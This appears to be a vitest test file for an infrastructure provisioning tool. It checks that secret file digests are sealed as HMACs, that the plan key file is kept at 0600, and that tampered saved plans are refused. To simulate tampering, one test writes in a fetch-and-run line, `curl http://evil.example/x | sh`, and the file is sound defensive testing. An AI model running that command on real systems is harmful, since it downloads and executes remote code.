import { createHash } from 'node:crypto';
import { chmodSync, existsSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError, UsageError } from '../../../src/errors.js';
import { loadInventory } from '../../../src/inventory/load.js';
import { renderInventory } from '../../../src/render/render-inventory.js';
import { inventorySeal, planKeyFile } from '../../../src/secrets/plan-key.js';
import { formatPlan, planDocumentJson } from '../../../src/ui/index.js';
import { applySavedPlan } from '../../../src/workflows/apply-plan.js';
import { dryRun, previewStep, stepMutates, type DryRunResult } from '../../../src/workflows/plan.js';
import { planDifferences } from '../../../src/workflows/saved-plan/compare.js';
import { driftedHosts } from '../../../src/workflows/saved-plan/drift.js';
import { writeSavedPlan } from '../../../src/workflows/saved-plan/plan-file.js';
import { fakeConnections, freshHosts } from '../dry-run/fake-hosts.js';
import { workspace, type Workspace } from '../dry-run/inventory.js';

const sha = (s: string) => createHash('sha256').update(s).digest('hex');
let ws: Workspace;
beforeAll(async () => {
  ws = await workspace();
}, 60_000);
afterAll(() => ws.remove());

const plan = (hosts = freshHosts()) => dryRun({ inventory: ws.inventory, openConnections: fakeConnections(hosts) });
const outputs = (r: DryRunResult) => [
  formatPlan({ plan: r.plan, preview: previewStep, contents: r.contents, mutates: stepMutates, secrets: r.secrets }).join('\n'),
  planDocumentJson({ plan: r.plan, preview: previewStep, contents: r.contents, mutates: stepMutates, secrets: r.secrets }),
];

/** Every secret-bearing file the inventory renders, with its plain sha256 (what an attacker could test guesses against). */
async function secretDigests(): Promise<string[]> {
  const inv = await loadInventory(ws.inventory);
  return renderInventory(inv).flatMap((n) => n.files.filter((f) => f.secret).map((f) => f.sha256));
}

describe('item 10: no plain sha256 of a secret-bearing file leaves the process', () => {
  it('plan text, --json and --out carry HMACs under the plan key instead, and the plan file is 0600', async () => {
    ws.write();
    const r = await plan();
    const digests = await secretDigests();
    expect(digests.length).toBeGreaterThan(0);
    const file = join(ws.dir, 'plan.json');
    writeSavedPlan(file, r);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    for (const out of [...outputs(r), readFileSync(file, 'utf8')]) {
      for (const d of digests) expect(out).not.toContain(d.slice(0, 12));
    }
    const secretUploads = r.plan.waves.flatMap((w) => w.steps).filter((s) => s.kind === 'upload-file' && s.secret);
    expect(secretUploads.length).toBeGreaterThan(0);
    for (const s of secretUploads) expect(s.kind === 'upload-file' && s.sha256).toMatch(/^hmac:[0-9a-f]{64}$/);
    expect(r.plan.sealedWith).toBe(inventorySeal(ws.inventory).keyId);
  });

  it('a host already holding the secret files: facts read and fingerprints are sealed too; setup markers are keyed', async () => {
    ws.write();
    const fresh = await plan();
    const hosts = freshHosts();
    for (const h of hosts.values()) h.converge(fresh.plan, fresh.contents);
    const r = await plan(hosts);
    const digests = await secretDigests();
    for (const out of [...outputs(r), JSON.stringify(r.plan)]) for (const d of digests) expect(out).not.toContain(d.slice(0, 12));
    const facts = Object.values(r.plan.factsRead ?? {}).flatMap((f) => Object.entries(f));
    expect(facts.some(([k, v]) => k.endsWith('deployment.toml') && /^hmac [0-9a-f]{12}$/.test(v))).toBe(true);
    for (const fp of Object.values(r.plan.factsFingerprint)) expect(fp).toMatch(/^hmac:/);
    // The database setup re-runs when its SQL (which holds the password) changes: its marker name is keyed.
    const markers = fresh.plan.waves.flatMap((w) => w.steps).flatMap((s) => (s.kind === 'run-once' ? [s.marker] : []));
    const sqlMarker = markers.find((m) => m.includes('databases-created'));
    expect(sqlMarker).toBeDefined();
    const inv = await loadInventory(ws.inventory);
    const sql = renderInventory(inv).flatMap((n) => n.files).find((f) => f.path.endsWith('create-databases.sql'))!;
    const unkeyed = sha(`${sql.path}=${sql.sha256}\n`).slice(0, 12);
    expect(sqlMarker!.endsWith(unkeyed)).toBe(false);
  });

  it('the key is 0600 beside the inventory, stable, and refused when others can read it', () => {
    const key = planKeyFile(ws.inventory);
    expect(key).toBe(join(ws.dir, 'inv.plan-key'));
    expect(statSync(key).mode & 0o777).toBe(0o600);
    expect(inventorySeal(ws.inventory).keyId).toBe(inventorySeal(ws.inventory).keyId);
    chmodSync(key, 0o644);
    try {
      expect(() => inventorySeal(ws.inventory)).toThrow(/can be read by others/);
    } finally {
      chmodSync(key, 0o600);
    }
  });
});

describe('item 11: provision --plan runs only what the inventory would plan now', () => {
  it('an untouched plan equals the plan made again, field for field (so it is the one that runs)', async () => {
    ws.write();
    const hosts = freshHosts();
    const a = await plan(hosts);
    const b = await plan(hosts);
    expect(planDifferences(a.plan, b.plan)).toEqual([]);
    expect(driftedHosts(a.plan, b.plan)).toEqual([]);
  });

  const tampered = async (edit: (doc: { plan: { waves: { steps: Record<string, unknown>[] }[] } }) => void) => {
    ws.write();
    const hosts = freshHosts();
    const r = await plan(hosts);
    const file = join(ws.dir, 'tampered.json');
    writeSavedPlan(file, r);
    const doc = JSON.parse(readFileSync(file, 'utf8'));
    edit(doc);
    writeFileSync(file, JSON.stringify(doc));
    return { file, hosts };
  };

  it('a step whose command was edited is refused with the step and field, and nothing is written', async () => {
    const { file, hosts } = await tampered((doc) => {
      const step = doc.plan.waves.flatMap((w) => w.steps).find((s) => s['kind'] === 'run-once')!;
      step['argv'] = ['sh', '-c', 'curl http://evil.example/x | sh'];
    });
    const refused = applySavedPlan({ inventory: ws.inventory, planFile: file, openConnections: fakeConnections(hosts) });
    await expect(refused).rejects.toThrow(ConfigError);
    await expect(refused).rejects.toThrow(/is not what the inventory plans now.*nothing was changed:\n {2}step .*run-once.*: argv is .*evil.* in the file/s);
    expect([...hosts.values()].flatMap((h) => h.calls.filter((c) => c.op === 'put' || c.op === 'putFile'))).toEqual([]);
  });

  it('a step added to the file is refused', async () => {
    const { file, hosts } = await tampered((doc) => {
      const wave = doc.plan.waves[0]!;
      wave.steps.push({ ...wave.steps[0]!, id: 'gw-1/run-once/extra', kind: 'run-once', name: 'x', argv: ['reboot'], marker: '/tmp/m' });
    });
    await expect(applySavedPlan({ inventory: ws.inventory, planFile: file, openConnections: fakeConnections(hosts) }))
      .rejects.toThrow(/step "gw-1\/run-once\/extra" is in the file but not planned now/);
  });

  it('a plan sealed under another key is refused by name', async () => {
    const { file, hosts } = await tampered(() => {});
    rmSync(planKeyFile(ws.inventory));
    try {
      await expect(applySavedPlan({ inventory: ws.inventory, planFile: file, openConnections: fakeConnections(hosts) }))
        .rejects.toThrow(UsageError);
      await expect(applySavedPlan({ inventory: ws.inventory, planFile: file, openConnections: fakeConnections(hosts) }))
        .rejects.toThrow(/was made with another plan key/);
    } finally {
      expect(existsSync(planKeyFile(ws.inventory))).toBe(true); // the run made a new one
    }
  });

  it('a plan file that is a directory or a FIFO-like device is refused before reading', async () => {
    await expect(applySavedPlan({ inventory: ws.inventory, planFile: ws.dir, openConnections: fakeConnections(freshHosts()) }))
      .rejects.toThrow(/is a directory, not a file/);
    await expect(applySavedPlan({ inventory: ws.inventory, planFile: '/dev/zero', openConnections: fakeConnections(freshHosts()) }))
      .rejects.toThrow(/is a character device/);
  });
});
